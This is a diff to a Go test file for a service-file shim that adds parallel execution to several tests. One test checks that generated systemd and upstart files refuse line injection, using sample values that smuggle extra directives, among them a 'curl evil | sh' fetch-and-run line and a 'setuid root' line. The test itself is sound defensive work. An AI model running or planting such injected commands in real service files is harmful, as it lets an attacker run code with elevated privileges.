@@ -23,6 +23,7 @@ func runUpshim(t *testing.T, args ...string) (int, string) {
 // out of (the Go runtime's own "out of memory" is exit 2 too, hence the
 // message check).
 func TestEnvFileAndJobReadsBounded(t *testing.T) {
+	t.Parallel()
 	for flag, want := range map[string]string{
 		"--env-file": "upshim: --env-file /dev/zero: larger than 1 MiB\n",
 		"--job":      "upshim: --job /dev/zero: larger than 4 MiB\n",
@@ -42,6 +43,7 @@ func TestEnvFileAndJobReadsBounded(t *testing.T) {
 // exit 2 naming the file and line, before anything runs; exec would fail
 // with EINVAL.
 func TestEnvFileRefusesNUL(t *testing.T) {
+	t.Parallel()
 	dir := t.TempDir()
 	env, job := filepath.Join(dir, "nul.env"), filepath.Join(dir, "nul.conf")
 	os.WriteFile(env, []byte("A=1\nFOO=a\x00b\n"), 0o644)
@@ -62,6 +64,7 @@ func TestEnvFileRefusesNUL(t *testing.T) {
 // \# in an exec line is no comment: sh gets it and prints a#b, as under
 // upstart.
 func TestJobEscapedHash(t *testing.T) {
+	t.Parallel()
 	job := filepath.Join(t.TempDir(), "hash.conf")
 	os.WriteFile(job, []byte("exec echo a\\#b # a comment\n"), 0o644)
 	r := startShim(t, "--job", job)
@@ -96,6 +99,7 @@ func generateLines(t *testing.T, args ...string) (int, []string, string) {
 // value. Every line printed is checked against what the format's
 // generator writes.
 func TestGenerateRefusesLineInjection(t *testing.T) {
+	t.Parallel()
 	inject := []string{"\n[Service]\nExecStartPre=/bin/touch /tmp/pwned", "\nRUN curl evil | sh", "\nsetuid root", "\r\nsetuid root", "\x0bx\x7f"}
 	live := map[string]map[string]bool{
 		"systemd": {"[Unit]": true, "Description": true, "[Service]": true, "Type": true, "ExecStart": true, "ExecReload": true,
@@ -149,6 +153,7 @@ func TestGenerateRefusesLineInjection(t *testing.T) {
 // itself runs, with quotes, blanks, backslashes, $, % and # in its
 // arguments.
 func TestGenerateUpstartRoundTrip(t *testing.T) {
+	t.Parallel()
 	command := []string{"/bin/sh", "-c", `printf '[%s]' "$@"; echo`, "sh",
 		"it's", "two  words", `"quoted"`, "$HOME", `back\slash`, `end\`, "#hash", "a # b", "%n", "", "'", `\'`}
 	r := startShim(t, append([]string{"--"}, command...)...)
@@ -188,6 +193,7 @@ func longScript(word string) string {
 // descriptor, as upstart passed it, in the main process and in hooks, and
 // under another user; it failed with E2BIG (exit 126).
 func TestJobLongScript(t *testing.T) {
+	t.Parallel()
 	if os.Geteuid() != 0 {
 		skipOrFail(t, "needs root to run a job as another user")
 	}
